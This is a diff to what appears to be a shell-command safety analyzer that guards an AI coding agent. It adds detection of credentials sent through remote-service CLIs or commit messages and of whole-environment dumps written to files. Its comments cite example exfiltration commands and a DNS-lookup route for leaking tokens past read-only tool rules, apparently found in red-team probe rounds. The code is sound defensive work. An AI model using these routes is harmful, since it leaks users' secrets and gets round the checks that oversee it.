@@ -116,6 +116,7 @@ CRONTAB_REMOVE = "crontab_remove"
 DB_WIPE_PRODUCTION = "db_wipe_production"
 SECRET_STORED = "secret_stored"
 NAME_CARRIES_DATA = "name_carries_data"
+CREDENTIAL_SENT = "credential_sent"
 SUDO = "sudo"
 CHROOT = "chroot"
 FORCE_PUSH = "force_push"
@@ -189,6 +190,8 @@ REASONS = {
                    "publishes it)",
     NAME_CARRIES_DATA: ("looks up a name built from command output or a secret (a DNS or ping lookup carries "
                         "it to whoever serves that domain)"),
+    CREDENTIAL_SENT: ("sends what looks like a credential, written out among its words, to the remote service it "
+                      "queries"),
     DB_WIPE_PRODUCTION: "drops or empties the production database (a framework's database task with the "
                         "production environment selected)",
     SUDO: "privilege escalation",
@@ -1250,6 +1253,7 @@ class _Stream:
     names: tuple[str, ...] | None = None   # file names listed under these (git ls-files, ls)
     build: bool = False            # what a safe-list build prints (npm run build | tee build.log)
     env: bool = False              # the environment's variables and values (env, printenv, set)
+    whole_env: bool = False        # ...all of them, not a selection (env | sort; probe round 36)
     dump: bool = False             # ...inside a whole configuration (docker inspect, kubectl describe, git config -l)
     history: bool = False          # ...or git history's committed content (git log -p, git show)
     raw: bytes | None = None       # its exact bytes, when a decoder made them (base64 -d | gunzip)
@@ -2243,6 +2247,11 @@ _COUNT_ONLY = frozenset({"-c", "-q", "-l", "-L", "--count", "--quiet", "--silent
 # filters that pass network content on to the next stage of a pipeline
 _FILTERS = frozenset({"tr", "sed", "head", "tail", "gunzip", "zcat", "gzip", "base64", "xxd", "cut", "grep",
                       "tee", "cat", "sort", "uniq", "awk", "dd", "bzcat", "xzcat", "openssl", "rev", "iconv"})
+# (probe round 36, exfil36) filters that keep the whole environment they are given (env |
+# sort > f), and where text written away is no file
+_ENV_KEEPERS = frozenset({"tee", "cat", "sort", "uniq", "rev", "base64", "xxd", "gzip", "openssl", "iconv", "tr", "dd",
+                          "tac", "nl", "column", "od", "hexdump", "bzip2", "xz", "zstd"})
+_DISCARDS = frozenset({"/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty", "/dev/fd/1", "/dev/fd/2"})
 # commands that use their operands' names, not their content
 _NAMES_ONLY = frozenset({"ls", "stat", "du", "file", "test", "[", "basename", "dirname", "realpath", "readlink",
                          "wc", "md5sum", "sha1sum", "sha256sum", "sha512sum", "echo", "printf", "cd", "pushd", "popd",
@@ -4698,7 +4707,8 @@ class _Analyzer:
                 self.cat(REMOTE_SHELL, self._t(node))
             fetch = fetch or sub.fetch or self.n_fetch > before
             cur = _Stream(fetch=fetch, text=sub.text, piped=True, endless=sub.endless, roots=sub.roots, under=sub.under,
-                          names=sub.names, build=sub.build, env=sub.env, dump=sub.dump, history=sub.history,
+                          names=sub.names, build=sub.build, env=sub.env, whole_env=sub.whole_env, dump=sub.dump,
+                          history=sub.history,
                           raw=sub.raw, filtered=sub.filtered, revisions=sub.revisions, partial=sub.partial,
                           nul_names=sub.nul_names)
             if self.lastpipe and k == len(stages) - 1:
@@ -4793,6 +4803,7 @@ class _Analyzer:
             # (a | diff f - 2>&1: the grammar drops the "-" and hangs "2>&1" on the whole
             # pipeline; bash gives both to its last command, whose words they are)
             out = self.redirected_compound(body, redirs, self._t(node), ctx, stdin, extra_words)
+            self.env_kept(out, redirs)   # (env | sort > env.txt: the pipeline's redirection)
             if out.text is not None and body.type in ("pipeline", "compound_statement", "subshell"):
                 # echo … | tr a-z n-za-m > x.sh, { echo …; echo …; } > x.sh: its text
                 self.output_into(redirs, out.text)
@@ -8420,6 +8431,19 @@ class _Analyzer:
             # ${TOKEN}.x: the name looked up is the message (Claude Code's DNS exfiltration
             # through its read-only ping/nslookup/dig/host): no allow rule on the tool lifts it
             self.risk(NAME_CARRIES_DATA, text)
+        if w0_exact and (name in C.REMOTE_SERVICE_CLIS or name == "git") and len(argv) > 1:
+            # (probe round 36, exfil36) a literal credential among the words of a program that
+            # hands them to a remote service (gh search code AKIA..., gh api repos/o/r/contents/
+            # ghp_..., aws s3 ls s3://their-bucket/AKIA.../: the bucket's access log keeps the
+            # prefix), or keeps them in a message a push publishes (git commit -m 'ghp_...'), as
+            # $TOKEN there is: the key is leaving; git's local searches (git log -S AKIA...,
+            # git grep) and grep/rg/echo send nothing
+            vals = [w.value for w in argv[1:64]]
+            if C.may_hold_credential("\n".join(vals)) and any(map(C.credential_in, vals)):
+                if name != "git":
+                    self.risk(CREDENTIAL_SENT, text)
+                elif C.stores_message(name, vals):
+                    self.risk(SECRET_STORED, text)
         if stdin is not None and stdin.fetch and name in _RUNS_STDIN_LATER:
             # curl URL | crontab -, | at now, | ssh host (a remote shell reads it), | ssh
             # host bash: code from the network, run
@@ -9018,6 +9042,16 @@ class _Analyzer:
             out = _Stream(names=tail_names) if tail_names is not None and name in _LISTING_NAMES else _Stream()
         else:
             out = self.output_of(name, argv, stdin, listing=ctx.piped or ctx.in_subst)
+        if out.env and not (out.dump or out.history) and not dynamic_name \
+                and (name in _ENV_DUMPERS or (name in _ENV_KEEPERS and stdin is not None and stdin.whole_env)):
+            # (probe round 36, exfil36) env > env.txt, printenv >> public/debug.txt, env | sort
+            # | tee env.txt: every variable's value kept in a file, where echo "$TOKEN" > f is
+            # asked (env itself stays read-only: it prints to the agent, seed 000)
+            out.whole_env = True
+            self.env_kept(out, redirs)
+            if name == "tee" and any(w.value not in _DISCARDS and (not w.value.startswith("-") or not w.exact)
+                                     for w in argv[1:]):
+                self.env_refs.append(name)
         if is_build:
             out.build = True
         return out
@@ -9744,6 +9778,12 @@ class _Analyzer:
     def sed_safe_script(self, vals: list[str]) -> bool:
         scripts, _, script_file = C.sed_scripts(vals)
         return not script_file and (all(C.sed_script_safe(s) for s in scripts) or C.sed_only_reads(scripts))
+
+    def env_kept(self, out: _Stream, redirs: list[_Redir]) -> None:
+        """(probe round 36, exfil36) The whole environment's output written to a file."""
+        if out.whole_env and any(r.writes and not r.dup and r.fd in (None, 1) and r.op in (">", ">|", ">>", "&>", "&>>")
+                                 and r.target is not None and r.target.value not in _DISCARDS for r in redirs):
+            self.env_refs.append("env")
 
     def output_of(self, name: str, argv: list[_Word], stdin: _Stream | None, listing: bool = True) -> _Stream:
         """The exact text a command prints, when it is static (echo, printf, cat <<EOF, base64 -d)."""
